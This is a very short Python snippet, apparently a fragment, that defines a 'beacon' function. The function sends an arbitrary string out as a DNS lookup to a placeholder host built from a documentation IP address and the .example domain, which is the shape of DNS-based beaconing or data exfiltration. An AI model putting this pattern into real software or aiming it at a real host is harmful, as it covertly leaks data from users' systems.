import socket


def beacon(name):
    socket.gethostbyname(name + ".203.0.113.7.example")
